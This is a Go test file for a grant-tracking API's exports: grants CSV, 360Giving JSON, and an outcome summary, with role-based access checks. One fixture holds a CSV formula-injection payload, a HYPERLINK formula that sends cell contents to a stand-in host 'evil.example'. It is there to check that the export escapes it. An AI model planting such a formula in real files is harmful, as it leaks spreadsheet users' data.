@@ -1,0 +1,692 @@
+package httpapi_test
+
+// Tests of the exports (issue #5) through HTTP: every httpapi.Function
+// mounted on one mux as infra/runner mounts them, over a fresh DynamoDB
+// Local table, with a 360Giving prefix configured as FUNDTRACK_360_PREFIX
+// would configure it. Names start with "ex" so they never meet the names of
+// the other API tests in this package; the harness is its own so it can
+// count DynamoDB requests and set the prefix.
+
+import (
+	"bytes"
+	"context"
+	"encoding/csv"
+	"encoding/json"
+	"fmt"
+	"io"
+	"log/slog"
+	"net/http"
+	"net/http/httptest"
+	"net/url"
+	"os"
+	"path/filepath"
+	"slices"
+	"strings"
+	"sync"
+	"sync/atomic"
+	"testing"
+	"time"
+
+	"github.com/aws/aws-sdk-go-v2/service/dynamodb"
+	"github.com/aws/smithy-go/middleware"
+	"github.com/santhosh-tekuri/jsonschema/v6"
+
+	"github.com/fundtrack/fundtrack/shared/auth"
+	"github.com/fundtrack/fundtrack/shared/domain"
+	"github.com/fundtrack/fundtrack/shared/httpapi"
+	"github.com/fundtrack/fundtrack/shared/platform"
+	"github.com/fundtrack/fundtrack/shared/testenv"
+)
+
+const (
+	exSecret = "exports-test-secret"
+	exPrefix = "ftk-test" // the configured 360Giving prefix
+
+	exAdmin    = "ex-admin@example.org"    // group admins, no membership
+	exLead     = "ex-lead@example.org"     // lead of P
+	exPLA      = "ex-pl-a@example.org"     // project-lead of A
+	exPLB      = "ex-pl-b@example.org"     // project-lead of B
+	exFunderX  = "ex-funder-x@example.org" // funder X of P
+	exFunderY  = "ex-funder-y@example.org" // funder Y of P
+	exFunderN  = "ex-funder-n@example.org" // funder N of P, which has no grants
+	exOutsider = "ex-outsider@example.org" // no membership anywhere
+	exLeadQ    = "ex-lead-q@example.org"   // lead of the other programme Q only
+)
+
+// exAPI is the API over one table, counting the DynamoDB requests it makes.
+type exAPI struct {
+	url      string
+	client   *http.Client
+	counting atomic.Bool
+	requests atomic.Int64
+	logs     bytes.Buffer
+	logsMu   sync.Mutex
+}
+
+func (a *exAPI) Write(p []byte) (int, error) {
+	a.logsMu.Lock()
+	defer a.logsMu.Unlock()
+	return a.logs.Write(p)
+}
+
+func exNew(t *testing.T) *exAPI {
+	t.Helper()
+	a := &exAPI{}
+	count := func(o *dynamodb.Options) {
+		o.APIOptions = append(o.APIOptions, func(s *middleware.Stack) error {
+			return s.Initialize.Add(middleware.InitializeMiddlewareFunc("exCount",
+				func(ctx context.Context, in middleware.InitializeInput, next middleware.InitializeHandler) (middleware.InitializeOutput, middleware.Metadata, error) {
+					if a.counting.Load() {
+						a.requests.Add(1)
+					}
+					return next.HandleInitialize(ctx, in)
+				}), middleware.After)
+		})
+	}
+	db, table := testenv.TableWith(t, count)
+	deps := platform.APIDeps(platform.Config{Table: table, GivingPrefix: exPrefix}, db,
+		auth.Local{Secret: []byte(exSecret), Issuer: auth.LocalIssuer})
+	deps.Logger = slog.New(slog.NewTextHandler(a, nil))
+	mux := http.NewServeMux()
+	fns := httpapi.Functions(deps)
+	for _, fn := range fns {
+		for _, pattern := range fn.Routes {
+			mux.Handle(pattern, fn.Handler)
+		}
+	}
+	mux.Handle("/", fns[0].Handler)
+	srv := httptest.NewServer(mux)
+	tr := &http.Transport{MaxIdleConnsPerHost: 32}
+	a.client = &http.Client{Transport: tr, Timeout: 60 * time.Second}
+	a.url = srv.URL
+	t.Cleanup(func() {
+		tr.CloseIdleConnections()
+		srv.Close()
+		if t.Failed() {
+			a.logsMu.Lock()
+			t.Logf("server log:\n%s", a.logs.String())
+			a.logsMu.Unlock()
+		}
+	})
+	return a
+}
+
+type exResp struct {
+	Status int
+	Header http.Header
+	Body   []byte
+}
+
+func (r exResp) String() string { return fmt.Sprintf("%d %s", r.Status, bytes.TrimSpace(r.Body)) }
+
+// send makes one request as the user as ("" sends no token); body nil sends
+// none, anything else goes as JSON. Safe from any goroutine.
+func (a *exAPI) send(method, path, as string, body any) (exResp, error) {
+	var rd io.Reader
+	if body != nil {
+		raw, err := json.Marshal(body)
+		if err != nil {
+			return exResp{}, err
+		}
+		rd = bytes.NewReader(raw)
+	}
+	req, err := http.NewRequest(method, a.url+path, rd)
+	if err != nil {
+		return exResp{}, err
+	}
+	if body != nil {
+		req.Header.Set("Content-Type", "application/json")
+	}
+	if as != "" {
+		var groups []string
+		if as == exAdmin {
+			groups = []string{domain.AdminGroup}
+		}
+		tok, err := auth.MintLocal([]byte(exSecret), as, "", groups, time.Hour, time.Now())
+		if err != nil {
+			return exResp{}, err
+		}
+		req.Header.Set("Authorization", "Bearer "+tok)
+	}
+	res, err := a.client.Do(req)
+	if err != nil {
+		return exResp{}, err
+	}
+	defer res.Body.Close()
+	raw, err := io.ReadAll(res.Body)
+	return exResp{Status: res.StatusCode, Header: res.Header, Body: raw}, err
+}
+
+func (a *exAPI) want(t *testing.T, status int, method, path, as string, body any) exResp {
+	t.Helper()
+	r, err := a.send(method, path, as, body)
+	if err != nil {
+		t.Fatalf("%s %s: %v", method, path, err)
+	}
+	if r.Status != status {
+		t.Fatalf("%s %s as %q: got %s, want %d", method, path, as, r, status)
+	}
+	return r
+}
+
+func (a *exAPI) create(t *testing.T, as, path string, body any) string {
+	t.Helper()
+	r := a.want(t, http.StatusCreated, "POST", path, as, body)
+	var v struct {
+		ID string `json:"id"`
+	}
+	if err := json.Unmarshal(r.Body, &v); err != nil || !domain.ValidID(v.ID) {
+		t.Fatalf("POST %s: no id in %s", path, r)
+	}
+	return v.ID
+}
+
+func (a *exAPI) member(t *testing.T, programme, email string, role map[string]string) {
+	t.Helper()
+	r, err := a.send("PUT", "/programmes/"+programme+"/members/"+url.PathEscape(email), exAdmin, map[string]any{"roles": []any{role}})
+	if err != nil || (r.Status != http.StatusCreated && r.Status != http.StatusOK) {
+		t.Fatalf("PUT member %s: %v %s", email, err, r)
+	}
+}
+
+// wantError checks an answer is the SPEC's error shape with this status and code.
+func exWantError(t *testing.T, r exResp, status int, code string) {
+	t.Helper()
+	var body struct {
+		Error struct {
+			Code    string `json:"code"`
+			Message string `json:"message"`
+		} `json:"error"`
+	}
+	if r.Status != status || !strings.HasPrefix(r.Header.Get("Content-Type"), "application/json") ||
+		json.Unmarshal(r.Body, &body) != nil || body.Error.Code != code || body.Error.Message == "" {
+		t.Fatalf("got %s (Content-Type %q), want a %d %s error", r, r.Header.Get("Content-Type"), status, code)
+	}
+}
+
+// exWorld is the fixture, made as admin:
+//
+//	P "Working for Wellness": funders X (org-id GB-GOR-DWP), Y (none) and N
+//	  (no grants); projects A, B; grants X→A (a title trying formula
+//	  injection), Y→B, X→P (the whole programme);
+//	  members lead, pl-a (A), pl-b (B), funder-x (X), funder-y (Y), funder-n (N).
+//	Q: funder Z, project C, grant Z→C; member lead-q (lead).
+type exWorld struct {
+	P, X, Y, N, A, B string
+	GXA, GYB, GXP    string
+	Q, GZC           string
+}
+
+const exInjection = `=HYPERLINK("http://evil.example/?"&A1,"£ details")`
+
+func exSetup(t *testing.T, a *exAPI) *exWorld {
+	t.Helper()
+	w := &exWorld{}
+	prog := func(name, lead string) map[string]any {
+		return map[string]any{"name": name, "leadOrganisation": lead, "startDate": "2025-01-01", "endDate": "2027-12-31"}
+	}
+	project := func(name, lead string) map[string]any {
+		return map[string]any{"name": name, "leadOrganisation": lead, "startDate": "2025-01-01", "endDate": "2026-12-31"}
+	}
+	grant := func(title, description, funder, project string, pence int64, award, start, end string) map[string]any {
+		g := map[string]any{"funderId": funder, "title": title, "description": description, "amountPence": pence,
+			"currency": "GBP", "awardDate": award, "startDate": start, "endDate": end}
+		if project != "" {
+			g["projectId"] = project
+		}
+		return g
+	}
+	pp := func(rest string) string { return "/programmes/" + w.P + rest }
+	w.P = a.create(t, exAdmin, "/programmes", prog("Working for Wellness", "Leicestershire Partnership NHS Trust"))
+	w.X = a.create(t, exAdmin, pp("/funders"), map[string]any{"name": "Department for Work and Pensions", "orgId": "GB-GOR-DWP", "contacts": []string{"grants@x.example.org"}})
+	w.Y = a.create(t, exAdmin, pp("/funders"), map[string]any{"name": "Local Trust, Bradford", "contacts": []string{"grants@y.example.org"}})
+	w.N = a.create(t, exAdmin, pp("/funders"), map[string]any{"name": "Newcomer Fund", "contacts": []string{"grants@n.example.org"}})
+	w.A = a.create(t, exAdmin, pp("/projects"), project("IPS Bradford", "Bradford District Care NHS FT"))
+	w.B = a.create(t, exAdmin, pp("/projects"), project("Aspiro internships", "Aspiro CIC"))
+	w.GXA = a.create(t, exAdmin, pp("/grants"), grant(exInjection, "Two IPS employment specialists", w.X, w.A, 31_000_000, "2025-01-15", "2025-02-01", "2026-01-31"))
+	w.GYB = a.create(t, exAdmin, pp("/grants"), grant("Internship places", "", w.Y, w.B, 1_234_505, "2025-02-28", "2025-03-01", "2025-12-31"))
+	w.GXP = a.create(t, exAdmin, pp("/grants"), grant("Network co-ordination", "Programme-wide support", w.X, "", 30_000_000, "2025-01-15", "2025-01-01", "2027-12-31"))
+	a.member(t, w.P, exLead, map[string]string{"role": "lead"})
+	a.member(t, w.P, exPLA, map[string]string{"role": "project-lead", "projectId": w.A})
+	a.member(t, w.P, exPLB, map[string]string{"role": "project-lead", "projectId": w.B})
+	a.member(t, w.P, exFunderX, map[string]string{"role": "funder", "funderId": w.X})
+	a.member(t, w.P, exFunderY, map[string]string{"role": "funder", "funderId": w.Y})
+	a.member(t, w.P, exFunderN, map[string]string{"role": "funder", "funderId": w.N})
+
+	w.Q = a.create(t, exAdmin, "/programmes", prog("Another network", "Another Trust"))
+	z := a.create(t, exAdmin, "/programmes/"+w.Q+"/funders", map[string]any{"name": "Funder Z", "contacts": []string{"z@z.example.org"}})
+	c := a.create(t, exAdmin, "/programmes/"+w.Q+"/projects", project("Project C", "C Trust"))
+	w.GZC = a.create(t, exAdmin, "/programmes/"+w.Q+"/grants", grant("Z to C", "", z, c, 1_000_000, "2025-01-15", "2025-02-01", "2026-01-31"))
+	a.member(t, w.Q, exLeadQ, map[string]string{"role": "lead"})
+	return w
+}
+
+func (w *exWorld) pp(rest string) string { return "/programmes/" + w.P + rest }
+
+const exGrantsHeader = "Grant ID,Title,Funder,Funder org-id,Recipient project,Amount (£),Currency,Award date,Start date,End date\r\n"
+
+// exCSV checks a CSV download's headers and returns its rows (header first).
+func exCSV(t *testing.T, r exResp, filename string) [][]string {
+	t.Helper()
+	if ct := r.Header.Get("Content-Type"); ct != "text/csv; charset=utf-8" {
+		t.Errorf("Content-Type %q, want text/csv; charset=utf-8", ct)
+	}
+	if cd := r.Header.Get("Content-Disposition"); cd != `attachment; filename="`+filename+`"` {
+		t.Errorf("Content-Disposition %q, want attachment; filename=%q", cd, filename)
+	}
+	if !bytes.HasPrefix(r.Body, []byte("\xef\xbb\xbf")) {
+		t.Fatalf("CSV does not start with a UTF-8 BOM: %q", r.Body[:min(len(r.Body), 20)])
+	}
+	rows, err := csv.NewReader(bytes.NewReader(r.Body[3:])).ReadAll()
+	if err != nil {
+		t.Fatalf("not CSV: %v\n%s", err, r.Body)
+	}
+	return rows
+}
+
+func exColumn(rows [][]string, col int) []string {
+	var out []string
+	for _, r := range rows[1:] {
+		out = append(out, r[col])
+	}
+	return out
+}
+
+func TestExportGrantsCSV(t *testing.T) {
+	a := exNew(t)
+	w := exSetup(t, a)
+
+	t.Run("exact content for a lead", func(t *testing.T) {
+		r := a.want(t, http.StatusOK, "GET", w.pp("/grants.csv"), exLead, nil)
+		exCSV(t, r, "working-for-wellness-grants.csv")
+		want := "\ufeff" + exGrantsHeader +
+			w.GXA + `,"'=HYPERLINK(""http://evil.example/?""&A1,""£ details"")",Department for Work and Pensions,GB-GOR-DWP,IPS Bradford,310000.00,GBP,2025-01-15,2025-02-01,2026-01-31` + "\r\n" +
+			w.GYB + `,Internship places,"Local Trust, Bradford",,Aspiro internships,12345.05,GBP,2025-02-28,2025-03-01,2025-12-31` + "\r\n" +
+			w.GXP + `,Network co-ordination,Department for Work and Pensions,GB-GOR-DWP,Whole programme,300000.00,GBP,2025-01-15,2025-01-01,2027-12-31` + "\r\n"
+		if string(r.Body) != want {
+			t.Fatalf("grants CSV:\n got %q\nwant %q", r.Body, want)
+		}
+		if cc := r.Header.Get("Cache-Control"); cc != "no-store" {
+			t.Errorf("Cache-Control %q, want no-store", cc)
+		}
+	})
+
+	t.Run("formula injection is escaped", func(t *testing.T) {
+		rows := exCSV(t, a.want(t, http.StatusOK, "GET", w.pp("/grants.csv"), exLead, nil), "working-for-wellness-grants.csv")
+		if got := rows[1][1]; got != "'"+exInjection {
+			t.Fatalf("title cell %q, want the formula behind an apostrophe", got)
+		}
+		for _, row := range rows[1:] {
+			for i, cell := range row {
+				if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
+					t.Errorf("cell %d %q of %q could run as a formula", i, cell, row)
+				}
+			}
+		}
+	})
+
+	t.Run("roles", func(t *testing.T) {
+		for _, tc := range []struct {
+			as   string
+			want []string
+		}{
+			{exAdmin, []string{w.GXA, w.GYB, w.GXP}},
+			{exLead, []string{w.GXA, w.GYB, w.GXP}},
+			{exFunderX, []string{w.GXA, w.GXP}},
+			{exFunderY, []string{w.GYB}},
+			{exPLA, []string{w.GXA}},
+			{exPLB, []string{w.GYB}},
+			{exFunderN, nil},
+		} {
+			rows := exCSV(t, a.want(t, http.StatusOK, "GET", w.pp("/grants.csv"), tc.as, nil), "working-for-wellness-grants.csv")
+			if got := exColumn(rows, 0); !slices.Equal(got, tc.want) {
+				t.Errorf("%s sees grants %v, want %v", tc.as, got, tc.want)
+			}
+			if strings.Join(rows[0], ",")+"\r\n" != exGrantsHeader {
+				t.Errorf("%s: header %q", tc.as, rows[0])
+			}
+		}
+		for _, as := range []string{exOutsider, exLeadQ} {
+			r, _ := a.send("GET", w.pp("/grants.csv"), as, nil)
+			exWantError(t, r, http.StatusNotFound, "not_found")
+		}
+		r, _ := a.send("GET", w.pp("/grants.csv"), "", nil)
+		exWantError(t, r, http.StatusUnauthorized, "unauthenticated")
+		r, _ = a.send("GET", "/programmes/not-an-id/grants.csv", exAdmin, nil)
+		exWantError(t, r, http.StatusNotFound, "not_found")
+	})
+}
+
+// ------------------------------------------------------------ 360Giving
+
+const exGrantSchemaRef = "https://raw.githubusercontent.com/ThreeSixtyGiving/standard/1.4.2/schema/360-giving-schema.json"
+
+var exGiving struct {
+	once   sync.Once
+	schema *jsonschema.Schema
+	err    error
+}
+
+// exGivingSchema compiles the 360Giving package schema from
+// FUNDTRACK_SCHEMAS_DIR (default ../shared/schemas beside the repository),
+// with the grant schema it $refs by its 1.4.2 URL served from the local
+// file; both declare draft 2020-12, and formats are asserted (the schema's
+// dates are oneOf a date-time format and a YYYY-MM-DD pattern).
+func exGivingSchema(t *testing.T) *jsonschema.Schema {
+	t.Helper()
+	dir := os.Getenv("FUNDTRACK_SCHEMAS_DIR")
+	if dir == "" {
+		dir = filepath.Join("..", "..", "..", "shared", "schemas") // from shared/httpapi
+	}
+	pkgPath, grantPath := filepath.Join(dir, "360-giving-package-schema.json"), filepath.Join(dir, "360-giving-schema.json")
+	for _, p := range []string{pkgPath, grantPath} {
+		if _, err := os.Stat(p); err != nil {
+			t.Skipf("360Giving schema not found at %s (set FUNDTRACK_SCHEMAS_DIR to the folder holding the 360Giving schemas): %v", p, err)
+		}
+	}
+	exGiving.once.Do(func() {
+		c := jsonschema.NewCompiler()
+		c.DefaultDraft(jsonschema.Draft2020)
+		c.AssertFormat()
+		for _, res := range []struct{ path, url string }{{grantPath, exGrantSchemaRef}, {pkgPath, pkgPath}} {
+			f, err := os.Open(res.path)
+			if err != nil {
+				exGiving.err = err
+				return
+			}
+			doc, err := jsonschema.UnmarshalJSON(f)
+			f.Close()
+			if err != nil {
+				exGiving.err = err
+				return
+			}
+			if d, _ := doc.(map[string]any)["$schema"].(string); !strings.Contains(d, "2020-12") {
+				exGiving.err = fmt.Errorf("%s declares %q, expected draft 2020-12", res.path, d)
+				return
+			}
+			if exGiving.err = c.AddResource(res.url, doc); exGiving.err != nil {
+				return
+			}
+		}
+		exGiving.schema, exGiving.err = c.Compile(pkgPath)
+	})
+	if exGiving.err != nil {
+		t.Fatalf("compile 360Giving schemas: %v", exGiving.err)
+	}
+	return exGiving.schema
+}
+
+func exValidateGiving(t *testing.T, raw []byte) error {
+	t.Helper()
+	doc, err := jsonschema.UnmarshalJSON(bytes.NewReader(raw))
+	if err != nil {
+		t.Fatalf("not JSON: %v\n%s", err, raw)
+	}
+	return exGivingSchema(t).Validate(doc)
+}
+
+type exOrg struct {
+	ID   string `json:"id"`
+	Name string `json:"name"`
+}
+
+type exGrant struct {
+	ID            string  `json:"id"`
+	Title         string  `json:"title"`
+	Description   string  `json:"description"`
+	Currency      string  `json:"currency"`
+	AmountAwarded float64 `json:"amountAwarded"`
+	AwardDate     string  `json:"awardDate"`
+	PlannedDates  []struct {
+		StartDate string `json:"startDate"`
+		EndDate   string `json:"endDate"`
+	} `json:"plannedDates"`
+	RecipientOrganization []exOrg `json:"recipientOrganization"`
+	FundingOrganization   []exOrg `json:"fundingOrganization"`
+	DateModified          string  `json:"dateModified"`
+}
+
+type exPackage struct {
+	Grants    []exGrant `json:"grants"`
+	Version   string    `json:"version"`
+	Publisher exOrg     `json:"publisher"`
+}
+
+func exGivingIDs(p exPackage) []string {
+	var out []string
+	for _, g := range p.Grants {
+		out = append(out, g.ID)
+	}
+	return out
+}
+
+func TestExportGrants360Giving(t *testing.T) {
+	a := exNew(t)
+	w := exSetup(t, a)
+	gid := func(id string) string { return "360G-" + exPrefix + "-" + id }
+
+	get := func(t *testing.T, as string) exPackage {
+		t.Helper()
+		r := a.want(t, http.StatusOK, "GET", w.pp("/grants/360giving"), as, nil)
+		if ct := r.Header.Get("Content-Type"); !strings.HasPrefix(ct, "application/json") {
+			t.Fatalf("Content-Type %q", ct)
+		}
+		if err := exValidateGiving(t, r.Body); err != nil {
+			t.Fatalf("the package %s got fails the 360Giving schema: %v\n%s", as, err, r.Body)
+		}
+		var p exPackage
+		if err := json.Unmarshal(r.Body, &p); err != nil {
+			t.Fatal(err)
+		}
+		return p
+	}
+
+	t.Run("valid and complete for a lead", func(t *testing.T) {
+		p := get(t, exLead)
+		if p.Version != "1.4" || p.Publisher.Name != "Leicestershire Partnership NHS Trust" {
+			t.Errorf("package metadata: version %q publisher %+v", p.Version, p.Publisher)
+		}
+		if got, want := exGivingIDs(p), []string{gid(w.GXA), gid(w.GYB), gid(w.GXP)}; !slices.Equal(got, want) {
+			t.Fatalf("grants %v, want %v", got, want)
+		}
+		xa, yb, xp := p.Grants[0], p.Grants[1], p.Grants[2]
+		// Titles are data here, not spreadsheet cells: no apostrophe.
+		if xa.Title != exInjection || xa.Description != "Two IPS employment specialists" || xa.Currency != "GBP" ||
+			xa.AmountAwarded != 310000 || xa.AwardDate != "2025-01-15" ||
+			len(xa.PlannedDates) != 1 || xa.PlannedDates[0].StartDate != "2025-02-01" || xa.PlannedDates[0].EndDate != "2026-01-31" {
+			t.Errorf("grant X→A: %+v", xa)
+		}
+		if want := []exOrg{{"GB-GOR-DWP", "Department for Work and Pensions"}}; !slices.Equal(xa.FundingOrganization, want) {
+			t.Errorf("X→A funder %+v, want %+v (its org-id)", xa.FundingOrganization, want)
+		}
+		if want := []exOrg{{"360G-" + exPrefix + "-org-" + w.A, "Bradford District Care NHS FT"}}; !slices.Equal(xa.RecipientOrganization, want) {
+			t.Errorf("X→A recipient %+v, want %+v", xa.RecipientOrganization, want)
+		}
+		if yb.AmountAwarded != 12345.05 || yb.Description != "Internship places" {
+			t.Errorf("grant Y→B: amount %v description %q (want 12345.05, the title for want of a description)", yb.AmountAwarded, yb.Description)
+		}
+		if want := []exOrg{{"360G-" + exPrefix + "-org-" + w.Y, "Local Trust, Bradford"}}; !slices.Equal(yb.FundingOrganization, want) {
+			t.Errorf("Y→B funder %+v, want %+v (no org-id: a fundtrack one)", yb.FundingOrganization, want)
+		}
+		if want := []exOrg{{"360G-" + exPrefix + "-org-" + w.P, "Leicestershire Partnership NHS Trust"}}; !slices.Equal(xp.RecipientOrganization, want) {
+			t.Errorf("programme-wide grant's recipient %+v, want the programme's lead %+v", xp.RecipientOrganization, want)
+		}
+		if _, err := time.Parse(time.RFC3339, xa.DateModified); err != nil {
+			t.Errorf("dateModified %q: %v", xa.DateModified, err)
+		}
+	})
+
+	t.Run("roles", func(t *testing.T) {
+		for _, tc := range []struct {
+			as   string
+			want []string
+		}{
+			{exAdmin, []string{gid(w.GXA), gid(w.GYB), gid(w.GXP)}},
+			{exFunderX, []string{gid(w.GXA), gid(w.GXP)}},
+			{exFunderY, []string{gid(w.GYB)}},
+			{exPLA, []string{gid(w.GXA)}},
+			{exPLB, []string{gid(w.GYB)}},
+		} {
+			if got := exGivingIDs(get(t, tc.as)); !slices.Equal(got, tc.want) {
+				t.Errorf("%s sees %v, want %v", tc.as, got, tc.want)
+			}
+		}
+		for _, as := range []string{exOutsider, exLeadQ} {
+			r, _ := a.send("GET", w.pp("/grants/360giving"), as, nil)
+			exWantError(t, r, http.StatusNotFound, "not_found")
+		}
+		// A member who may read no grant: 360Giving needs at least one.
+		r, _ := a.send("GET", w.pp("/grants/360giving"), exFunderN, nil)
+		exWantError(t, r, http.StatusNotFound, "not_found")
+	})
+
+	t.Run("a grant id is not shadowed", func(t *testing.T) {
+		// The literal route sits beside GET …/grants/{grantId}; grants still read.
+		a.want(t, http.StatusOK, "GET", w.pp("/grants/"+w.GXA), exLead, nil)
+	})
+
+	t.Run("the schema check bites", func(t *testing.T) {
+		r := a.want(t, http.StatusOK, "GET", w.pp("/grants/360giving"), exLead, nil)
+		var p map[string]any
+		if err := json.Unmarshal(r.Body, &p); err != nil {
+			t.Fatal(err)
+		}
+		g := p["grants"].([]any)[0].(map[string]any)
+		g["amountAwarded"] = "£310,000.00"
+		delete(g, "fundingOrganization")
+		raw, _ := json.Marshal(p)
+		if err := exValidateGiving(t, raw); err == nil {
+			t.Fatalf("a broken package passed the schema check:\n%s", raw)
+		}
+	})
+}
+
+// TestExportPagesThroughEveryGrant: both grant exports hold every grant
+// however many pages the list takes (a page is at most 100), for a lead
+// (the programme's grants) and a funder (the funder index).
+func TestExportPagesThroughEveryGrant(t *testing.T) {
+	a := exNew(t)
+	p := a.create(t, exAdmin, "/programmes", map[string]any{"name": "Big programme", "leadOrganisation": "Big Trust",
+		"startDate": "2025-01-01", "endDate": "2027-12-31"})
+	f := a.create(t, exAdmin, "/programmes/"+p+"/funders", map[string]any{"name": "F", "contacts": []string{"f@f.example.org"}})
+	a.member(t, p, exLead, map[string]string{"role": "lead"})
+	a.member(t, p, exFunderX, map[string]string{"role": "funder", "funderId": f})
+	const n = 120
+	ids := make([]string, n)
+	var wg sync.WaitGroup
+	sem := make(chan struct{}, 16)
+	errs := make(chan error, n)
+	for i := range n {
+		wg.Add(1)
+		go func() {
+			defer wg.Done()
+			sem <- struct{}{}
+			defer func() { <-sem }()
+			r, err := a.send("POST", "/programmes/"+p+"/grants", exAdmin, map[string]any{"funderId": f, "title": fmt.Sprintf("Grant %03d", i),
+				"amountPence": 100 + i, "currency": "GBP", "awardDate": "2025-01-15", "startDate": "2025-02-01", "endDate": "2026-01-31"})
+			if err != nil || r.Status != http.StatusCreated {
+				errs <- fmt.Errorf("grant %d: %v %s", i, err, r)
+				return
+			}
+			var v struct{ ID string }
+			json.Unmarshal(r.Body, &v)
+			ids[i] = v.ID
+		}()
+	}
+	wg.Wait()
+	close(errs)
+	for err := range errs {
+		t.Fatal(err)
+	}
+	slices.Sort(ids) // lists come oldest first: ids sort by creation time
+	for _, as := range []string{exLead, exFunderX} {
+		rows := exCSV(t, a.want(t, http.StatusOK, "GET", "/programmes/"+p+"/grants.csv", as, nil), "big-programme-grants.csv")
+		if got := exColumn(rows, 0); !slices.Equal(got, ids) {
+			t.Errorf("%s: CSV has %d grants, want all %d in order", as, len(got), n)
+		}
+		r := a.want(t, http.StatusOK, "GET", "/programmes/"+p+"/grants/360giving", as, nil)
+		var pkg exPackage
+		if err := json.Unmarshal(r.Body, &pkg); err != nil {
+			t.Fatal(err)
+		}
+		if len(pkg.Grants) != n {
+			t.Errorf("%s: 360Giving package has %d grants, want %d", as, len(pkg.Grants), n)
+		}
+		if err := exValidateGiving(t, r.Body); err != nil {
+			t.Errorf("%s: %v", as, err)
+		}
+	}
+}
+
+// ------------------------------------------------------------ outcome summary
+
+func TestExportOutcomeSummary(t *testing.T) {
+	a := exNew(t)
+	w := exSetup(t, a)
+	outcome := func(t *testing.T, as, project string, counts map[string]int64) {
+		t.Helper()
+		a.create(t, as, w.pp("/projects/"+project+"/outcomes"), map[string]any{"periodStart": "2025-04-01", "periodEnd": "2025-06-30", "counts": counts})
+	}
+	summary := func(t *testing.T, as string) exResp {
+		t.Helper()
+		return a.want(t, http.StatusOK, "GET", w.pp("/outcomes/summary.csv"), as, nil)
+	}
+	header := "\ufeffProject,Referrals,People into work,Job starts,Sustained jobs (13 weeks),Volunteering starts,Training starts,Interns enrolled,Interns completed\r\n"
+
+	t.Run("before any submission", func(t *testing.T) {
+		want := header + "IPS Bradford,0,0,0,0,0,0,0,0\r\nAspiro internships,0,0,0,0,0,0,0,0\r\nProgramme total,0,0,0,0,0,0,0,0\r\n"
+		if got := string(summary(t, exLead).Body); got != want {
+			t.Fatalf("summary:\n got %q\nwant %q", got, want)
+		}
+	})
+
+	// A: referrals 12, into work 7, job starts 8, sustained 1.
+	// B: referrals 13, into work 1, interns enrolled 4.
+	outcome(t, exPLA, w.A, map[string]int64{"referrals": 10, "peopleIntoWork": 7, "jobStarts": 8})
+	outcome(t, exPLA, w.A, map[string]int64{"referrals": 2, "sustainedJobs13Weeks": 1})
+	outcome(t, exPLB, w.B, map[string]int64{"referrals": 13, "peopleIntoWork": 1, "internsEnrolled": 4})
+
+	// Totals 25, 8, 8, 1, 0, 0, 4, 0: controlled from the true totals, so
+	// people into work is 8 → 10 though both projects' figures are "*".
+	want := header +
+		"IPS Bradford,10,*,10,*,0,0,0,0\r\n" +
+		"Aspiro internships,15,*,0,0,0,0,*,0\r\n" +
+		"Programme total,25,10,10,*,0,0,*,0\r\n"
+
+	t.Run("every member reads the same controlled figures", func(t *testing.T) {
+		for _, as := range []string{exAdmin, exLead, exPLA, exPLB, exFunderX, exFunderY, exFunderN} {
+			r := summary(t, as)
+			exCSV(t, r, "working-for-wellness-outcomes-summary.csv")
+			if string(r.Body) != want {
+				t.Errorf("summary as %s:\n got %q\nwant %q", as, r.Body, want)
+			}
+		}
+		for _, as := range []string{exOutsider, exLeadQ} {
+			r, _ := a.send("GET", w.pp("/outcomes/summary.csv"), as, nil)
+			exWantError(t, r, http.StatusNotFound, "not_found")
+		}
+		r, _ := a.send("GET", w.pp("/outcomes/summary.csv"), "", nil)
+		exWantError(t, r, http.StatusUnauthorized, "unauthenticated")
+	})
+
+	t.Run("a fixed few requests however many submissions", func(t *testing.T) {
+		count := func() int64 {
+			a.requests.Store(0)
+			a.counting.Store(true)
+			summary(t, exLead)
+			a.counting.Store(false)
+			return a.requests.Load()
+		}
+		before := count()
+		for range 20 {
+			outcome(t, exPLB, w.B, map[string]int64{"trainingStarts": 1})
+		}
+		after := count()
+		if before != after || after > 4 {
+			t.Fatalf("summary took %d DynamoDB requests, then %d after 20 more submissions; want the same few (≤ 4)", before, after)
+		}
+		if got := string(summary(t, exLead).Body); !strings.Contains(got, "Aspiro internships,15,*,0,0,0,20,*,0\r\n") || !strings.Contains(got, "Programme total,25,10,10,*,0,20,*,0\r\n") {
+			t.Fatalf("after 20 training starts:\n%s", got)
+		}
+	})
+}
